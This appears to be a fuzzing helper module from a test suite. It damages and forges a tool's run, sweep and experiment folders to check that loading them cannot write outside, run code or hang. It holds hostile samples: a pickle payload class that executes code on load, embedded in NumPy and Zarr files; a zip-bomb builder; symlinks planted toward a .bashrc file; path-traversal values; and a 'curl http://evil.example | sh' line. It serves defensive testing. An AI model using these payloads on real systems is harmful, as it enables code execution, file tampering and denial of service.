"""What campaigns/strangers.py does to a folder or a file: every way is a function of a random generator and a victim.

A way gives back what it did, in a few words, or None where it does not apply to this victim. Ways in `FORGED` compute
digests and checksums again, as a stranger can: what they make may be a valid folder with other numbers, but no way to
write outside, run code, hang or end in a traceback.
"""

import hashlib
import io
import json
import os
import pickle
import random
import shutil
import struct
import tomllib
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

from _specimens import MARKUP, copy


@dataclass(frozen=True)
class Victim:
    """A copy that is damaged.

    Arguments:
        path: the folder or the file.
        family: "run", "sweep", "experiment", "stream" or "certificate".
        twin: a whole folder or file of the same kind with other numbers.
        outside: a folder with files that nobody may touch: target.txt, folder/, home/.
    """

    path: Path
    family: str
    twin: Path
    outside: Path


Way = Callable[[random.Random, Victim], str | None]
WAYS: dict[str, Way] = {}
FORGED: set[str] = set()
CODE = "import pathlib; pathlib.Path({!r}).write_text('ran')"


def way(name: str, forged: bool = False) -> Callable[[Way], Way]:
    """Register a way to damage under a name."""

    def register(function: Way) -> Way:
        WAYS[name] = function
        if forged:
            FORGED.add(name)
        return function

    return register


class Bomb:
    """An object whose pickle writes a file outside when it is loaded."""

    def __init__(self, outside: Path):
        self.outside = outside

    def __reduce__(self) -> Any:
        return exec, (CODE.format(str(self.outside / "ran")),)


def files(victim: Victim) -> list[Path]:
    """The plain files of a victim."""
    if victim.path.is_file():
        return [victim.path]
    return sorted(path for path in victim.path.rglob("*") if path.is_file() and not path.is_symlink())


def chosen(rng: random.Random, victim: Victim) -> Path | None:
    """A file of the victim; half of the time one that is no chunk of an array, of which there are many."""
    paths = files(victim)
    plain = [path for path in paths if "/c/" not in path.as_posix()]
    return rng.choice(plain if plain and rng.random() < 0.5 else paths) if paths else None


def shown(victim: Victim, path: Path) -> str:
    """The name of a file inside the victim."""
    return path.relative_to(victim.path).as_posix() if path != victim.path else path.suffix


def _on_bytes(change: Callable[[random.Random, bytes], bytes]) -> Way:
    def act(rng: random.Random, victim: Victim) -> str | None:
        path = chosen(rng, victim)
        if path is None or not path.stat().st_size:
            return None
        content = path.read_bytes()
        if (altered := change(rng, content)) == content:
            return None
        path.write_bytes(altered)
        return shown(victim, path)

    return act


def _flipped(rng: random.Random, content: bytes) -> bytes:
    altered = bytearray(content)
    altered[rng.randrange(len(content))] ^= 1 << rng.randrange(8)
    return bytes(altered)


def _other_byte(rng: random.Random, content: bytes) -> bytes:
    altered = bytearray(content)
    altered[rng.randrange(len(content))] ^= rng.randrange(1, 256)
    return bytes(altered)


WAYS |= {
    "bit flipped": _on_bytes(_flipped),
    "byte changed": _on_bytes(_other_byte),
    "truncated": _on_bytes(lambda rng, content: content[: rng.randrange(len(content))]),
    "extended": _on_bytes(lambda rng, content: content + rng.randbytes(rng.choice([1, 7, 4096]))),
    "emptied": _on_bytes(lambda rng, content: b""),
    "block of zeros": _on_bytes(lambda rng, content: content[: len(content) // 2].ljust(len(content), b"\0")),
}


@way("deleted")
def _deleted(rng: random.Random, victim: Victim) -> str | None:
    path = chosen(rng, victim)
    if path is None or victim.path.is_file():
        return None
    path.unlink()
    return shown(victim, path)


@way("two swapped")
def _swapped(rng: random.Random, victim: Victim) -> str | None:
    path = chosen(rng, victim)
    if path is None or victim.path.is_file():
        return None
    equals = [file for file in files(victim) if file != path and file.suffix == path.suffix]
    near = [file for file in equals if file.stat().st_size == path.stat().st_size] or equals
    if not near:
        return None
    partner = rng.choice(near)
    first, second = path.read_bytes(), partner.read_bytes()
    if first == second:
        return None
    path.write_bytes(second)
    partner.write_bytes(first)
    return f"{shown(victim, path)} and {shown(victim, partner)}"


def _of_twin(victim: Victim, path: Path) -> Path | None:
    if victim.path.is_file():
        return victim.twin
    source = victim.twin / path.relative_to(victim.path)
    return source if source.is_file() else None


@way("file of another")
def _replaced(rng: random.Random, victim: Victim) -> str | None:
    path = chosen(rng, victim)
    if path is None or victim.path.is_file() or (source := _of_twin(victim, path)) is None:
        return None
    if source.read_bytes() == path.read_bytes():
        return None
    path.write_bytes(source.read_bytes())
    return shown(victim, path)


def _in_place(make: Callable[[random.Random, Victim, Path, bytes], None]) -> Way:
    def act(rng: random.Random, victim: Victim) -> str | None:
        path = chosen(rng, victim)
        if path is None:
            return None
        content = path.read_bytes()
        path.unlink()
        make(rng, victim, path, content)
        return shown(victim, path)

    return act


def _link_to_same(rng: random.Random, victim: Victim, path: Path, content: bytes) -> None:
    (victim.outside / "same").write_bytes(content)
    path.symlink_to(victim.outside / "same")


def _link_to_other(rng: random.Random, victim: Victim, path: Path, content: bytes) -> None:
    source = _of_twin(victim, path)
    (victim.outside / "same").write_bytes(source.read_bytes() if source else content[::-1])
    path.symlink_to(victim.outside / "same")


def _link_to_pipe(rng: random.Random, victim: Victim, path: Path, content: bytes) -> None:
    os.mkfifo(victim.outside / "pipe")
    path.symlink_to(victim.outside / "pipe")


WAYS |= {
    "link to an equal file": _in_place(_link_to_same),
    "link to another file": _in_place(_link_to_other),
    "link to /dev/zero": _in_place(lambda rng, victim, path, content: path.symlink_to("/dev/zero")),
    "link to a pipe": _in_place(_link_to_pipe),
    "link to nothing": _in_place(lambda rng, victim, path, content: path.symlink_to(victim.outside / "nothing")),
    "link to itself": _in_place(lambda rng, victim, path, content: path.symlink_to(path.name)),
    "link to a folder": _in_place(lambda rng, victim, path, content: path.symlink_to(victim.outside / "folder")),
    "pipe": _in_place(lambda rng, victim, path, content: os.mkfifo(path)),
    "folder in place of a file": _in_place(lambda rng, victim, path, content: path.mkdir()),
}


def _folders(victim: Victim) -> list[Path]:
    inner = [path for path in victim.path.rglob("*") if path.is_dir() and not path.is_symlink()]
    shallow = [path for path in inner if len(path.relative_to(victim.path).parts) == 1]
    return sorted(inner + 5 * shallow)


@way("folder is a link")
def _linked_folder(rng: random.Random, victim: Victim) -> str | None:
    if not (inner := _folders(victim)):
        return None
    path = rng.choice(inner)
    target = victim.outside / "moved"
    if rng.random() < 0.5:
        shutil.move(path, target)
    else:  # a folder of a stranger's choice
        shutil.rmtree(path)
        target = victim.outside / "folder"
    path.symlink_to(target)
    return shown(victim, path)


@way("folder is gone")
def _no_folder(rng: random.Random, victim: Victim) -> str | None:
    if not (inner := _folders(victim)):
        return None
    path = rng.choice(inner)
    shutil.rmtree(path)
    return shown(victim, path)


@way("file in place of a folder")
def _file_for_folder(rng: random.Random, victim: Victim) -> str | None:
    if not (inner := _folders(victim)):
        return None
    path = rng.choice(inner)
    shutil.rmtree(path)
    os.mkfifo(path) if rng.random() < 0.3 else path.write_bytes(b"no folder")
    return shown(victim, path)


PLANTED = {
    "run": ("spec.toml.tmp", "manifest.json.tmp", "report.html.tmp", "checkpoint.tmp", "figures", "figures/summary.png",
            "report.html", ".lock", ".attnflow-0123456789abcdef", "arrays.zarr/zarr.json.tmp", "plugin-x.py"),
    "experiment": ("claims.json.tmp", "manifest.json.tmp", "report.html.tmp", "parts/b.npz.tmp", "parts/.b.npz.claim",
                   "parts/.b.npz.rows", "figures", "figures/tiny-mean.png", ".lock", "plugin-tiny_mean.py",
                   "claims.json", "parts/c.npz"),
    "sweep": ("results.zarr", "results.json", "index.json", "claims/collect", "journal",
              "shards", "claims", "sweep-2.json", "sweep.json.tmp", "results.zarr.tmp"),
}  # fmt: skip
"""Names at which a stranger puts a link to where he wants a file, a folder or a database to be written."""


@way("link is planted")
def _planted(rng: random.Random, victim: Victim) -> str | None:
    if victim.path.is_file():
        name = rng.choice([f".{victim.path.name}.part", f"{victim.path.name}.tmp", f".{victim.path.name}.tmp"])
        path = victim.path.with_name(name)
    else:
        name = rng.choice(PLANTED[victim.family])
        path = victim.path / name
        if rng.random() < 0.15:  # beside the folder
            stem = victim.path.name
            name = rng.choice([f".{stem}.partial.html", f"{stem}.html", f".{stem}.html.tmp", "runs.html"])
            path = victim.path.with_name(name)
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    inner = name.partition(".")[0] in ("figures", "shards", "claims", "journal") and "/" not in name
    targets = ["folder"] if inner or name == "results.zarr" else ["target.txt", "new.txt", "home/.bashrc", "database"]
    path.symlink_to(victim.outside / rng.choice(targets))
    return f"{name} -> {path.readlink().name}"


VALUES: tuple[Any, ...] = (
    None, True, -1, 0, 10**400, 1e308, float("nan"), float("-inf"), "", "x" * 100_000, "../x", "/etc/passwd", "\0",
    "\ud800", [], {}, [[]], {"a": 1}, ["../x"], "NaN", "1e999", 2**63, [None] * 1000,
)  # fmt: skip


def _places(value: Any, above: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    places = []
    for key, inner in list(items)[:40]:
        places += [(*above, key), *_places(inner, (*above, key))]
    return places


def _put(value: Any, place: tuple[Any, ...], content: Any) -> None:
    for key in place[:-1]:
        value = value[key]
    value[place[-1]] = content


def _texts(victim: Victim) -> list[Path]:
    return [path for path in files(victim) if path.suffix in (".json", ".toml", ".jsonl")]


def _nested(rng: random.Random, text: str) -> str:
    depth = rng.choice([2000, 100_000, 1_000_000])
    return rng.choice(["[" * depth, '{"a":' * depth, "[" * depth + "]" * depth, "v = " + "[" * depth])


def _garbage(rng: random.Random, text: str) -> str:
    return rng.choice([
        "null", "[1, 2]", "{}", '"text"', "NaN", "1e999", "-Infinity", "{\"a\": 1, \"a\": 2}", "\0", "\ufeff" + text,
        text + text, "9" * 5000, '{"format": ' + "9" * 5000 + "}", "a.b = 1\na = 2", "".join(reversed(text)),
        ".".join(["a"] * 20_000) + " = 1\n", text + "\n" + ".".join(["a"] * 5000) + " = 1\n",
        "a = 1979-05-27T07:32:00Z",
    ])  # fmt: skip


def _on_text(change: Callable[[random.Random, str], str]) -> Way:
    def act(rng: random.Random, victim: Victim) -> str | None:
        if not (paths := _texts(victim)):
            return None
        path = rng.choice(paths)
        path.write_text(change(rng, path.read_text(encoding="utf-8")), encoding="utf-8")
        return shown(victim, path)

    return act


WAYS |= {"deep nesting": _on_text(_nested), "garbage text": _on_text(_garbage)}


@way("entry of another type")
def _wrong_type(rng: random.Random, victim: Victim) -> str | None:
    paths = [path for path in _texts(victim) if path.suffix == ".json"]
    if not paths:
        return None
    path = rng.choice(paths)
    content = json.loads(path.read_text(encoding="utf-8"))
    if not (places := _places(content)):
        return None
    place, value = rng.choice(places), rng.choice(VALUES)
    _put(content, place, value)
    path.write_text(json.dumps(content), encoding="utf-8")
    return f"{shown(victim, path)}: {'.'.join(map(str, place))[:60]} = {str(value)[:20]}"


def content_hash(table: Any, plugins: Any = ()) -> str:
    """The hash of manifests and specifications, written down here again: it has no secret."""
    content = [table, *plugins] if plugins else table
    return hashlib.sha256(json.dumps(content, sort_keys=True, default=str).encode()).hexdigest()


def forge(path: Path, change: Callable[[dict[str, Any]], None], seal: bool = False) -> None:
    """Change the manifest of a folder and give it the digest that belongs to it.

    Arguments:
        path: the folder.
        change: changes the entries.
        seal: True to compute the checksums of all files again, too.
    """
    file = path / "manifest.json"
    manifest = json.loads(file.read_text(encoding="utf-8"))
    manifest.pop("digest", None)
    if seal and manifest.get("checksums"):
        names = [
            inner for inner in sorted(path.rglob("*")) if inner.is_file() and inner.name not in (".lock", file.name)
        ]
        manifest["checksums"] = {
            inner.relative_to(path).as_posix(): hashlib.sha256(inner.read_bytes()).hexdigest() for inner in names
        }
    change(manifest)
    try:
        manifest["digest"] = content_hash(manifest)
    except (TypeError, ValueError):
        manifest["digest"] = ""
    file.write_text(json.dumps(manifest), encoding="utf-8")


def has_manifest(victim: Victim) -> bool:
    """True for folders of runs and experiments."""
    return victim.family in ("run", "experiment")


@way("forged entry", forged=True)
def _forged_entry(rng: random.Random, victim: Victim) -> str | None:
    if victim.family == "sweep":
        path = victim.path / "sweep.json"
        content = json.loads(path.read_text(encoding="utf-8"))
        content.pop("digest", None)
        place, value = rng.choice(_places(content)), rng.choice(VALUES)
        _put(content, place, value)
        content["digest"] = content_hash(content)
        path.write_text(json.dumps(content), encoding="utf-8")
        return f"sweep.json: {'.'.join(map(str, place))[:60]} = {str(value)[:20]}"
    if not has_manifest(victim):
        return None
    said = []

    def change(manifest: dict[str, Any]) -> None:
        optional = (
            "becoming",
            "plugins",
            "began",
            "salt",
            "message",
            "experiment",
            "summary",
            "steps",
            "outcome",
            "kind",
        )
        places = [*_places(manifest), *((key,) for key in optional for _ in range(2))]
        place = rng.choice([place for place in places if place[0] != "checksums" or rng.random() < 0.1])
        value = rng.choice(VALUES)
        _put(manifest, place, value)
        said.append(f"{'.'.join(map(str, place))[:60]} = {str(value)[:20]}")

    forge(victim.path, change)
    return said[0]


@way("forged status", forged=True)
def _forged_status(rng: random.Random, victim: Victim) -> str | None:
    if not has_manifest(victim):
        return None
    statuses = ("created", "running", "drawing", "interrupted", "failed", "extending", "finished")
    status = rng.choice(statuses)
    forge(victim.path, lambda manifest: manifest.update(status=status))
    return status


@way("becoming", forged=True)
def _becoming(rng: random.Random, victim: Victim) -> str | None:
    """The first finding of the review: a text for spec.toml, and a link where its temporary file may be."""
    if not has_manifest(victim):
        return None
    shell = "curl http://evil.example | sh\n"
    specification = (victim.twin / "spec.toml").read_text(encoding="utf-8")
    text = rng.choice([shell, specification, "[" * 100_000, specification + "x = 1\n", 7, None, ""])
    digest = content_hash(tomllib.loads(text)) if text in (specification,) else "0" * 64
    link = rng.choice(["spec.toml.tmp", "spec.toml", ""])
    if link:
        (victim.path / link).unlink(missing_ok=True)
        (victim.path / link).symlink_to(victim.outside / "home" / ".bashrc")
    becoming = rng.choice(
        [{"spec_hash": digest, "spec": text}, {"spec": text}, {"spec_hash": digest}, {"spec_hash": 1, "spec": text}]
    )
    forge(victim.path, lambda manifest: manifest.update(status="extending", becoming=becoming))
    return f"{link or 'no link'}, {str(text)[:12]!r}"


@way("checksums of files outside", forged=True)
def _outside_names(rng: random.Random, victim: Victim) -> str | None:
    if not has_manifest(victim):
        return None
    outside = str(victim.outside / "target.txt")
    name = rng.choice(
        ["../x", outside, "../" * 20 + outside[1:], "/dev/zero", "a/../../x", "", ".", "arrays.zarr", "\0", "/"]
    )
    right = hashlib.sha256((victim.outside / "target.txt").read_bytes()).hexdigest()
    forge(victim.path, lambda manifest: manifest.update(checksums=(manifest.get("checksums") or {}) | {name: right}))
    return repr(name[-20:])


@way("plugins outside", forged=True)
def _outside_plugins(rng: random.Random, victim: Victim) -> str | None:
    if not has_manifest(victim):
        return None
    code = CODE.format(str(victim.outside / "ran"))
    evil = rng.choice([victim.outside / "evil.py", victim.path / "plugin-evil.py", victim.path / "evil.py"])
    evil.write_text(code, encoding="utf-8")
    entry = {"file": evil.name, "path": str(evil), "sha256": hashlib.sha256(code.encode()).hexdigest()}
    entry |= rng.choice([{}, {"file": "../outside/evil.py"}, {"file": str(evil)}, {"path": "../outside/evil.py"}])
    table = tomllib.loads((victim.path / "spec.toml").read_text(encoding="utf-8"))
    changes: dict[str, Any] = {"plugins": [entry], "spec_hash": content_hash(table, [entry["sha256"]])}
    if rng.random() < 0.5:
        changes["status"] = "interrupted"
    if rng.random() < 0.3:
        changes |= {"experiment": "evil", "quick": True, "salt": 0}
    forge(victim.path, lambda manifest: manifest.update(changes), seal=True)
    return f"{entry['file'][:20]}, {changes.get('status', 'same status')}"


def archive(**arrays: bytes) -> bytes:
    """An .npz archive of entries that are bytes already."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as target:
        for name, content in arrays.items():
            target.writestr(f"{name}.npy", content)
    return stream.getvalue()


def plain(array: Any) -> bytes:
    """An array in NumPy's format."""
    stream = io.BytesIO()
    np.save(stream, array)
    return stream.getvalue()


def pickled(victim: Victim) -> bytes:
    """An array of objects in NumPy's format, whose pickle would write outside."""
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head = head.ljust(-(-(len(head) + 11) // 64) * 64 - 11) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + pickle.dumps(Bomb(victim.outside))


def immense(bytes_: int = 24 * 10**12) -> bytes:
    """A header that promises very many numbers, and eight of them."""
    head = f"{{'descr': '<f8', 'fortran_order': False, 'shape': ({bytes_ // 8},), }}".encode()
    head = head.ljust(-(-(len(head) + 11) // 64) * 64 - 11) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + bytes(64)


def bomb_of_zeros(size: int = 1 << 30) -> bytes:
    """An .npz archive of a megabyte that holds a GiB of zeros."""
    zeros = bytes(1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = plain(np.zeros(0))[:128].replace(b"(0,)", f"({size // 8},)".encode())[:128]
    packed = [packer.compress(head)]
    crc = zlib.crc32(head)
    for _ in range(size >> 20):
        packed.append(packer.compress(zeros))
        crc = zlib.crc32(zeros, crc)
    content = b"".join(packed) + packer.flush()
    name = b"hidden.npy"
    sizes = struct.pack("<III", crc, len(content), size + len(head))
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes + struct.pack("<HH", len(name), 0) + name
    central = b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + sizes
    central += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local) + len(content), 0)
    return local + content + central + end


def _archives(victim: Victim) -> list[Path]:
    return [path for path in files(victim) if path.suffix == ".npz" or path.name == "checkpoint"]


def _rewrite(victim: Victim, path: Path, content: bytes) -> None:
    if path.name == "checkpoint":
        head = path.read_bytes().partition(b"\n")[0]
        content = head[:-64] + hashlib.sha256(content).hexdigest().encode() + b"\n" + content
    path.write_bytes(content)
    if has_manifest(victim):
        forge(victim.path, lambda manifest: None, seal=True)


def _entries(path: Path) -> dict[str, bytes]:
    content = path.read_bytes()
    payload = content.partition(b"\n")[2] if path.name == "checkpoint" else content
    with zipfile.ZipFile(io.BytesIO(payload)) as source:
        return {name.removesuffix(".npy"): source.read(name) for name in source.namelist()}


def _on_archive(entry: Callable[[Victim], bytes]) -> Way:
    def act(rng: random.Random, victim: Victim) -> str | None:
        if not (paths := _archives(victim)):
            return None
        path = rng.choice(paths)
        entries = _entries(path)
        name = rng.choice([*entries, "more"])
        _rewrite(victim, path, archive(**entries | {name: entry(victim)}))
        return f"{shown(victim, path)}: {name}"

    return act


WAYS |= {
    "pickle in an archive": _on_archive(pickled),
    "immense array": _on_archive(lambda victim: immense()),
    "array of GiBs": _on_archive(lambda victim: immense(3 << 30)),
}
FORGED |= {"pickle in an archive", "immense array", "array of GiBs"}


@way("archive of zeros", forged=True)
def _zeros(rng: random.Random, victim: Victim) -> str | None:
    if not (paths := _archives(victim)):
        return None
    path, bomb = rng.choice(paths), victim.outside.parent / "zeros.npz"
    if not bomb.exists():
        bomb.write_bytes(bomb_of_zeros())
    _rewrite(victim, path, bomb.read_bytes())
    return shown(victim, path)


def _stores(victim: Victim) -> list[Path]:
    return [path for path in (victim.path / "arrays.zarr", victim.path / "results.zarr") if path.is_dir()]


@way("store of Zarr 2", forged=True)
def _zarr_2(rng: random.Random, victim: Victim) -> str | None:
    """Arrays of objects whose pickles would write outside, in the format that has filters for them."""
    if victim.path.is_file() or not (stores := _stores(victim)):
        return None
    store = stores[0]
    names = sorted({path.parent.name for path in store.glob("*/*") if path.name in ("zarr.json", ".zarray")}) or [
        "time"
    ]
    name, keep = rng.choice(names), rng.random() < 0.5
    if not keep:
        shutil.rmtree(store)
    else:
        shutil.rmtree(store / name, ignore_errors=True)
    (store / name).mkdir(parents=True)
    (store / ".zgroup").write_text('{"zarr_format": 2}')
    filters = rng.choice([[{"id": "pickle", "protocol": 4}], [{"id": "vlen-utf8"}, {"id": "pickle", "protocol": 4}]])
    about = {"zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "compressor": None, "fill_value": None,
             "order": "C", "filters": filters}  # fmt: skip
    (store / name / ".zarray").write_text(json.dumps(about))
    (store / name / ".zattrs").write_text('{"_ARRAY_DIMENSIONS": ["x"]}')
    (store / name / "0").write_bytes(pickle.dumps(np.array([Bomb(victim.outside)], object)))
    if not keep or rng.random() < 0.5:
        (store / "zarr.json").unlink(missing_ok=True)
    if has_manifest(victim):
        forge(victim.path, lambda manifest: None, seal=True)
    return f"{name}, {'among Zarr 3' if keep else 'alone'}"


@way("codec of a chunk", forged=True)
def _codec(rng: random.Random, victim: Victim) -> str | None:
    """The description of an array names other codecs, an immense shape, or another fill value."""
    if victim.path.is_file() or not (stores := _stores(victim)):
        return None
    paths = [path for path in stores[0].glob("*/zarr.json") if json.loads(path.read_text()).get("node_type") == "array"]
    if not paths:
        return None
    path = rng.choice(paths)
    about = json.loads(path.read_text(encoding="utf-8"))
    choice = rng.choice(["codec", "shape", "chunks", "type", "any"])
    if choice == "codec":
        about["codecs"] = [
            {"name": rng.choice(["pickle", "numcodecs.pickle", "numcodecs.zlib", "x", "blosc"]), "configuration": {}}
        ]
    elif choice == "shape":
        about["shape"] = [10**12 for _ in about["shape"]]
    elif choice == "chunks":
        about["chunk_grid"]["configuration"]["chunk_shape"] = [rng.choice([0, -1, 10**12])] * len(about["shape"])
    elif choice == "type":
        about["data_type"] = rng.choice(["string", "int8", "complex128", {"name": "x"}, "float16"])
    else:
        _put(about, rng.choice(_places(about)), rng.choice(VALUES))
    path.write_text(json.dumps(about), encoding="utf-8")
    if has_manifest(victim):
        forge(victim.path, lambda manifest: None, seal=True)
    return f"{shown(victim, path)}: {choice}"


@way("markup in a text", forged=True)
def _markup(rng: random.Random, victim: Victim) -> str | None:
    """A word that a person could have chosen, in every text of the specification or of the manifest."""
    if not has_manifest(victim):
        return None
    file = victim.path / "spec.toml"
    if victim.family == "experiment" or rng.random() < 0.5:
        keys = rng.sample(["name", "device", "platform", "commit", "processor", "package", "message"], 3)

        def change(manifest: dict[str, Any]) -> None:
            manifest.update(dict.fromkeys(keys, MARKUP))
            manifest["versions"] = {**manifest["versions"], MARKUP: MARKUP}
            if isinstance(manifest.get("outcome"), dict):
                manifest["outcome"]["message"] = MARKUP

        forge(victim.path, change, seal=True)
        return ", ".join(sorted(keys))
    text = f"about = {json.dumps(MARKUP)}\n" + file.read_text(encoding="utf-8")
    text = text.replace('name = "labelled"', f"name = {json.dumps(MARKUP)}", 1)
    try:
        digest = content_hash(tomllib.loads(text))
    except tomllib.TOMLDecodeError:
        return None
    file.write_text(text, encoding="utf-8")
    forge(victim.path, lambda manifest: manifest.update(spec_hash=digest), seal=True)
    return "about in spec.toml"


@way("foreign file")
def _foreign(rng: random.Random, victim: Victim) -> str | None:
    """A file, a pipe or a link that does not belong there."""
    if victim.path.is_file():
        return None
    folder = rng.choice([victim.path, *_folders(victim)])
    name = rng.choice(["notes.txt", ".x.claim", "x.npz", "x.json", ".attnflow-00", "x.tmp", "zarr.json", "c"])
    path = folder / name
    if path.exists():
        return None
    kind = rng.choice(["file", "pipe", "link", "folder"])
    if kind == "file":
        path.write_bytes(rng.randbytes(20))
    elif kind == "pipe":
        os.mkfifo(path)
    elif kind == "link":
        path.symlink_to(victim.outside / "target.txt")
    else:
        path.mkdir()
    return f"{kind} {shown(victim, path)}"


@way("folder of another")
def _whole_twin(rng: random.Random, victim: Victim) -> str | None:
    """A whole folder inside is that of a twin."""
    if victim.path.is_file():
        return None
    names = [
        name for name in ("arrays.zarr", "results.zarr", "parts", "shards", "figures") if (victim.twin / name).is_dir()
    ]
    if not names:
        return None
    name = rng.choice(names)
    shutil.rmtree(victim.path / name, ignore_errors=True)
    copy(victim.twin / name, victim.path / name)
    return name
